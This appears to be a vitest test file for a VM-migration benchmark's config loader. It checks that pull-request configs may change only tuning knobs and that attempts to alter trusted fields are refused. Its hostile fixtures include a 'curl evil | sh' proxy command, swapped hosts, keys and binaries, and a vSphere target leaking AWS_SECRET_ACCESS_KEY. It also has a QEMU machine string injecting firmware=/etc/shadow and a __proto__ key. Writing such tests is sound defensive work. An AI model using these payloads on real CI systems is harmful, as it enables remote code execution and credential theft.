// A pull request's config may change knobs only. For every trusted field the schema has,
// a hostile head that sets it is refused with the field and its line; knobs pass.
import { describe, expect, test } from 'vitest';
import { parseConfig, readConfigText } from '../../src/config/load.js';
import { assertSameMeasurement, headConfig } from '../../src/config/trust.js';
import { InputFileError } from '../../src/model/errors.js';
import { validateConfigSchema } from '../../src/model/schema.js';

interface Schema {
  type?: string | string[];
  properties?: Record<string, Schema>;
  additionalProperties?: boolean | Schema;
  items?: Schema;
  $ref?: string;
  enum?: unknown[];
  definitions?: Record<string, Schema>;
}
const root = validateConfigSchema.schema as Schema;
const deref = (s: Schema): Schema => (s.$ref ? root.definitions![s.$ref.split('/').pop()!]! : s);

/** Every leaf field under targets.<name> and compare, as a path with `rack1` for the target. */
function trustedLeaves(): string[][] {
  const out: string[][] = [];
  const walk = (schema: Schema, path: string[], depth: number) => {
    const s = deref(schema);
    if (depth > 6) return;
    if (s.properties) {
      for (const [k, v] of Object.entries(s.properties)) walk(v, [...path, k], depth + 1);
      return;
    }
    if (s.additionalProperties && typeof s.additionalProperties === 'object') return walk(s.additionalProperties, [...path, 'x'], depth + 1);
    out.push(path);
  };
  walk(root.definitions!.Target!, ['targets', 'rack1'], 0);
  walk(root.properties!.compare!, ['compare'], 0);
  // The knobs, spelled out here rather than asked of the code under test.
  const knobs = ['targets.rack1.qemu.extraArgs', 'targets.rack1.qemu.machine', 'targets.rack1.libvirt.domainXml'];
  return out.filter((p) => !knobs.includes(p.join('.')));
}

const trustedText = `targets:
  rack1:
    hypervisor: qemu
    source: { address: hv1.example.net, user: root, identityFile: /etc/migbench/id, hostKeyFingerprints: ["SHA256:${'A'.repeat(43)}"], migrationAddress: 10.0.0.1, migrationInterface: eth1 }
    destination: { address: hv2.example.net, user: root, identityFile: /etc/migbench/id, hostKeyFingerprints: ["SHA256:${'B'.repeat(43)}"], migrationAddress: 10.0.0.2, migrationInterface: eth1 }
    guestNetwork: { address: 192.0.2.10/24, bridge: br0 }
    sharedStorageDir: /srv/shared
suites:
  memory-migration:
    scenarios:
      - { name: idle-256, target: rack1, guest: { memoryMiB: 256 }, migration: { kind: memory } }
`;
const trusted = { config: parseConfig(trustedText, 'base/migbench.yaml'), description: "the base branch's migbench.yaml" };

function refusal(text: string): string[] {
  try {
    headConfig(trusted, readConfigText(text, 'head/migbench.yaml'), 'head/migbench.yaml');
  } catch (error) {
    expect(error).toBeInstanceOf(InputFileError);
    return (error as InputFileError).issues.map((i) => `${i.path}: ${i.message.split(':')[0]}`);
  }
  return [];
}

describe(headConfig, () => {
  test('knobs pass: scenarios, workloads, migration settings, thresholds, matrices, defaults, allow-listed QEMU arguments', () => {
    const head = trustedText
      .replace(
        'guest: { memoryMiB: 256 }, migration: { kind: memory }',
        'guest: { memoryMiB: 512 }, workload: { memory: { workingSetMiB: 64, dirtyRateMBps: 16 } }, migration: { kind: memory, maxBandwidthMiBps: 64 }, thresholds: { observedDowntimeMs: 900 }',
      )
      .replace('    sharedStorageDir: /srv/shared\n', '    sharedStorageDir: /srv/shared\n    qemu: { extraArgs: ["-cpu", "qemu64"], machine: pc }\n');
    expect(refusal(`${head}defaults: { migrationTimeoutMs: 60000 }\n`)).toEqual([]);
    // The built-in lab may be tuned too.
    const tunedLab = trustedText
      .replace('targets:\n', 'targets:\n  lab:\n    hypervisor: qemu\n    qemu: { extraArgs: ["-overcommit", "mem-lock=off"] }\n')
      .replace('target: rack1, guest', 'target: lab, guest');
    expect(refusal(tunedLab)).toEqual([]);
  });

  const hostile: Array<[string, string, string]> = [
    ['a proxy command', 'migrationInterface: eth1 }\n    destination', 'migrationInterface: eth1, proxyCommand: ["sh", "-c", "curl evil | sh"] }\n    destination'],
    ['another host', 'address: hv1.example.net', 'address: evil.example.com'],
    ['another host key', `"SHA256:${'A'.repeat(43)}"`, `"SHA256:${'C'.repeat(43)}"`],
    ['another key file', 'identityFile: /etc/migbench/id,', 'identityFile: /root/.ssh/id_ed25519,'],
    ['a QEMU binary', '    sharedStorageDir: /srv/shared\n', '    sharedStorageDir: /srv/shared\n    qemu: { binary: /tmp/evil }\n'],
    ['another shared folder', 'sharedStorageDir: /srv/shared', 'sharedStorageDir: /'],
    [
      'a new target',
      'suites:\n',
      '  mine: { hypervisor: vsphere, source: { address: x, migrationAddress: a, migrationInterface: b }, destination: { address: y, migrationAddress: a, migrationInterface: b }, guestNetwork: { address: 192.0.2.1/24, bridge: b }, vsphere: { url: "https://evil/sdk", user: u, passwordEnv: AWS_SECRET_ACCESS_KEY, vm: v, sourceHost: a, destinationHost: b } }\nsuites:\n',
    ],
    ['a looser gate', 'suites:\n', 'compare: { default: { warnPct: 900, failPct: 1000 } }\nsuites:\n'],
  ];
  test.each(hostile)('%s is refused, naming the field and its line', (_what, from, to) => {
    const found = refusal(trustedText.replace(from, to));
    expect(found.length).toBeGreaterThan(0);
    for (const f of found) expect(f).toMatch(/^(targets|compare)[.\w-]*(\[\d+\])?[.\w-]* \(line \d+\): a pull request may not change this$/);
  });

  test('every trusted field the schema has is refused when a head sets it (all targets and compare fields but the knobs)', () => {
    const leaves = trustedLeaves();
    expect(leaves.length).toBeGreaterThan(40);
    const missed: string[] = [];
    for (const path of leaves) {
      const head = structuredClone(trusted.config) as unknown as Record<string, unknown>;
      let node = head;
      for (const key of path.slice(0, -1)) node = (node[key] ??= {}) as Record<string, unknown>;
      // A value unlike any the trusted config has: the check compares, it does not validate.
      node[path.at(-1)!] = ['hostile', path.join('.')];
      try {
        headConfig(trusted, { data: head, lineOf: () => null }, 'head/migbench.yaml');
        missed.push(path.join('.'));
      } catch (error) {
        // Refused as a trusted field, not merely as a value the schema rejects.
        const refusal = (error as InputFileError).issues.find((i) => i.message.startsWith('a pull request may not change this'));
        if (!refusal?.path.startsWith(path[0]!)) missed.push(path.join('.'));
      }
    }
    expect(missed).toEqual([]);
  });

  test('a knob is still only a knob: a machine type that would add machine properties, and keys that reach a prototype, are refused', () => {
    // qemu.machine goes into -machine NAME,accel=…: a comma would add firmware=, dumpdtb=, … (found by review).
    const machine = `${trustedText}`.replace('targets:\n', 'targets:\n  lab:\n    hypervisor: qemu\n    qemu: { machine: "q35,firmware=/etc/shadow" }\n');
    expect(refusal(machine)).toEqual([expect.stringMatching(/^targets\.lab\.qemu\.machine \(line \d+\)/)]);
    const proto = trustedText.replace('targets:\n', 'targets:\n  __proto__:\n    qemu: { extraArgs: ["-cpu", "qemu64"] }\n');
    expect(refusal(proto)).toEqual([expect.stringMatching(/^targets\.__proto__ \(line \d+\): a pull request may not change this$/)]);
  });

  test("a trusted field the head leaves out is filled in from the trusted source; knobs are the head's alone", () => {
    const head = readConfigText(
      `targets:\n  rack1:\n    qemu: { extraArgs: ["-cpu", "qemu64"] }\n${trustedText.slice(trustedText.indexOf('suites:'))}`.replace('target: rack1, guest', 'target: lab, guest'),
      'head/migbench.yaml',
    );
    const effective = headConfig(trusted, head, 'head/migbench.yaml');
    expect(effective.targets!.rack1).toEqual({ ...trusted.config.targets!.rack1, qemu: { extraArgs: ['-cpu', 'qemu64'] } });
    // And a knob the trusted side has but the head does not is gone.
    const tunedTrusted = { ...trusted, config: { ...trusted.config, targets: { rack1: { ...trusted.config.targets!.rack1!, qemu: { extraArgs: ['-rtc', 'clock=vm'] } } } } };
    expect(headConfig(tunedTrusted, readConfigText(trustedText, 'head/migbench.yaml'), 'head/migbench.yaml').targets!.rack1!.qemu?.extraArgs).toBeUndefined();
  });
});

describe(assertSameMeasurement, () => {
  const base = trusted.config;
  const check = (text: string): string[] => {
    const headText = readConfigText(text, 'head/migbench.yaml');
    try {
      assertSameMeasurement(base, headConfig(trusted, headText, 'head/migbench.yaml'), headText, 'head/migbench.yaml');
    } catch (error) {
      expect(error).toBeInstanceOf(InputFileError);
      return (error as InputFileError).issues.map((i) => `${i.path}: ${i.message}`);
    }
    return [];
  };
  const idle = '{ name: idle-256, target: rack1, guest: { memoryMiB: 256 }, migration: { kind: memory } }';

  test('a head that changes what a scenario migrates, or adds a scenario measured its own way, passes', () => {
    expect(check(trustedText.replace(idle, '{ name: idle-256, target: rack1, guest: { memoryMiB: 512 }, migration: { kind: memory, downtimeLimitMs: 50 } }'))).toEqual([]);
    expect(check(`${trustedText}      - { name: new-one, target: rack1, guest: { memoryMiB: 256 }, migration: { kind: memory }, samplesPerBoot: 5 }\n`)).toEqual([]);
  });

  test('a head that changes how a scenario both configs have is measured is refused, at the field', () => {
    expect(check(trustedText.replace(idle, '{ name: idle-256, target: rack1, guest: { memoryMiB: 256 }, migration: { kind: memory }, samplesPerBoot: 5 }'))).toEqual([
      'suites.memory-migration.scenarios[0].samplesPerBoot (line 11): a pull request may not change how scenario idle-256 is measured (samplesPerBoot: 5, the base has 1): base and head are measured alike',
    ]);
    expect(check(`defaults: { probe: { intervalMs: 20 } }\n${trustedText}`)).toEqual([
      expect.stringMatching(
        /^defaults\.probe \(line 1\): a pull request may not change how scenario idle-256 is measured \(probe: \{.*"intervalMs":20.*\}, the base has \{.*"intervalMs":2.*\}\)/,
      ),
    ]);
  });
});
